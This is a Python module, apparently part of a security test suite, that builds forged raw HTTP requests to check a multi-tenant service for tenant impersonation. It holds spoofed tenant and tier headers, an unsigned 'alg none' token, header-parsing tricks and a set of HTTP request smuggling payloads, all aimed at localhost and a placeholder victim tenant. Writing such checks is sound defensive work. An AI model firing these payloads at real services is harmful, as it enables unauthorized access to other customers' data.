"""Forged contexts: every way we know of saying that one is someone else."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

VICTIM = b"globex"
OWN = b"acme"
TENANT_MARK = b"globex-private-mark"
TIER_MARK = b"enterprise-only-mark"

NAMES = [b"x-tenant-id", b"X-Tenant-Id", b"x-company-id"]

CLAIMS: list[tuple[str, bytes]] = [
    *[(f"{name.decode()} names the victim", name + b": " + VICTIM) for name in NAMES],
    ("own then victim", b"x-tenant-id: acme\r\nx-tenant-id: globex"),
    ("victim then own", b"x-tenant-id: globex\r\nx-tenant-id: acme"),
    ("victim twice", b"x-tenant-id: globex\r\nX-TENANT-ID: globex"),
    ("tenant own, company victim", b"x-tenant-id: acme\r\nx-company-id: globex"),
    ("tenant victim, company own", b"x-tenant-id: globex\r\nx-company-id: acme"),
    ("comma", b"x-tenant-id: acme, globex"),
    ("comma first", b"x-tenant-id: globex,acme"),
    ("semicolon", b"x-tenant-id: globex;acme"),
    ("underscores", b"x_tenant_id: globex"),
    ("one underscore", b"x-tenant_id: globex"),
    ("other underscore", b"X_Tenant-Id: globex"),
    ("underscore beside own", b"x-tenant-id: acme\r\nx_tenant_id: globex"),
    ("underscore company", b"x_company_id: globex"),
    ("no-break space", b"x-tenant-id: globex\xa0"),
    ("leading tab", b"x-tenant-id:\tglobex"),
    ("trailing tab", b"x-tenant-id: globex\t"),
    ("many spaces", b"x-tenant-id:     globex   "),
    ("space before colon", b"x-tenant-id : globex"),
    ("obs-fold", b"x-tenant-id: acme\r\n globex"),
    ("obs-fold alone", b"x-tenant-id:\r\n globex"),
    ("hidden by obs-fold", b"x-other: a\r\n x-tenant-id: globex"),
    ("bare line feed", b"x-other: a\nx-tenant-id: globex"),
    ("bare carriage return", b"x-other: a\rx-tenant-id: globex"),
    ("nul", b"x-tenant-id: globex\x00"),
    ("nul between", b"x-tenant-id: acme\x00globex"),
    ("vertical tab", b"x-tenant-id: globex\x0b"),
    ("quoted", b'x-tenant-id: "globex"'),
    ("upper case value", b"x-tenant-id: GLOBEX"),
    ("percent", b"x-tenant-id: %67lobex"),
    ("utf-8 look-alike", "x-tenant-id: gl\u043ebex".encode()),
    ("path", b"x-tenant-id: ../globex"),
    ("long", b"x-tenant-id: globex" + b"x" * 60),
    ("empty then victim", b"x-tenant-id:\r\nx-tenant-id: globex"),
    ("platform", b"x-tenant-id: platform"),
    ("shared", b"x-tenant-id: shared"),
    ("tier", b"x-subscription-tier: enterprise"),
    ("tier twice", b"x-subscription-tier: pro\r\nx-subscription-tier: enterprise"),
    ("tier underscore", b"x_subscription_tier: enterprise"),
    ("tier unknown", b"x-subscription-tier: platinum"),
    ("tenant and tier", b"x-tenant-id: globex\r\nx-subscription-tier: enterprise"),
    ("user of the victim", b"x-user-id: root@globex"),
    ("user twice", b"x-user-id: a\r\nx-user-id: root"),
    ("forwarded", b"forwarded: for=127.0.0.1;host=localhost\r\nx-tenant-id: globex"),
    ("forwarded for", b"x-forwarded-for: 127.0.0.1\r\nx-forwarded-user: globex"),
    ("original url", b"x-original-url: /tenants/globex\r\nx-rewrite-url: /tenants/globex"),
    ("method override", b"x-http-method-override: DELETE\r\nx-tenant-id: globex"),
    ("agent of another product", b"user-agent: Nacos-Server"),
    ("second credential", b"authorization: Bearer chk_bootstrap000_x"),
    ("basic credential", b"authorization: Basic Z2xvYmV4Og=="),
    ("unsigned token", b"txn-token: eyJhbGciOiJub25lIn0.eyJ0aWQiOiJnbG9iZXgifQ."),
    ("empty token", b"txn-token: "),
    ("token and tenant", b"txn-token: a.b.c\r\nx-tenant-id: globex"),
    ("key in another header", b"x-api-key: globex"),
    ("service name as authority", b"x-service-name: platform\r\nx-tenant-id: globex"),
    ("hop-by-hop", b"connection: x-tenant-id\r\nx-tenant-id: globex"),
    ("legacy switch", b"x-legacy-mode: true"),
    ("requirements", b'x-resource-requirements: {"tenant_id":"globex","tier":"enterprise"}'),
]

TARGETS = [
    b"/whoami", b"/services/discover/vault", b"/services/vault", b"/services/discover/gold", b"/services/",
    b"/services/discover/vault?tenant_id=globex", b"/services/?legacy_mode=true", b"/tenants/globex", b"/config/globex",
]  # fmt: skip

SMUGGLED = b"GET /services/discover/vault HTTP/1.1\r\nHost: hub\r\nx-tenant-id: globex\r\n\r\n"


@dataclass(frozen=True)
class Attack:
    """One forged request; `raw` is complete, and asks for the connection to be closed."""

    label: str
    raw: bytes


def attacks(credential: bytes) -> Iterator[Attack]:
    """Return every claim on every target, without and with the attacker's own credential line."""
    for target in TARGETS:
        for label, lines in CLAIMS:
            for own in (b"", credential):
                if own and b"authorization" in lines and b"Basic" in lines:
                    continue
                head = b"\r\n".join(
                    part for part in (b"GET " + target + b" HTTP/1.1", b"Host: localhost", own, lines) if part
                )
                yield Attack(
                    f"{label} -> {target.decode()}{' with own key' if own else ''}",
                    head + b"\r\nConnection: close\r\n\r\n",
                )


def smuggling(credential: bytes) -> Iterator[Attack]:
    """Return requests that two parsers might cut in two places."""
    head = b"POST /services/heartbeats HTTP/1.1\r\nHost: localhost\r\n" + credential + b"\r\n"
    size = b"%d" % len(SMUGGLED)
    for label, framing, body in (
        ("both lengths", b"Content-Length: " + size + b"\r\nTransfer-Encoding: chunked", b"0\r\n\r\n" + SMUGGLED),
        ("chunked, spelled", b"Content-Length: 4\r\nTransfer-Encoding: xchunked", b"0\r\n\r\n" + SMUGGLED),
        ("chunked, spaced", b"Content-Length: 4\r\nTransfer-Encoding : chunked", b"0\r\n\r\n" + SMUGGLED),
        ("chunked twice", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"0\r\n\r\n" + SMUGGLED),
        ("two lengths", b"Content-Length: 0\r\nContent-Length: " + size, SMUGGLED),
        ("length list", b"Content-Length: 0, " + size, SMUGGLED),
        ("signed length", b"Content-Length: +0", SMUGGLED),
        ("hex length", b"Content-Length: 0x0", SMUGGLED),
        ("folded length", b"Content-Length:\r\n 0", SMUGGLED),
        ("chunk extension", b"Transfer-Encoding: chunked", b"0;\n\r\n" + SMUGGLED),
        ("bad chunk", b"Transfer-Encoding: chunked", b"-1\r\n\r\n" + SMUGGLED),
        ("short chunk", b"Transfer-Encoding: chunked", b"1\r\nAB\r\n0\r\n\r\n" + SMUGGLED),
        ("get with a body", b"Content-Length: " + size, SMUGGLED),
        ("lengthless body", b"X-A: b", SMUGGLED),
    ):
        yield Attack(f"smuggling: {label}", head + framing + b"\r\n\r\n" + body)
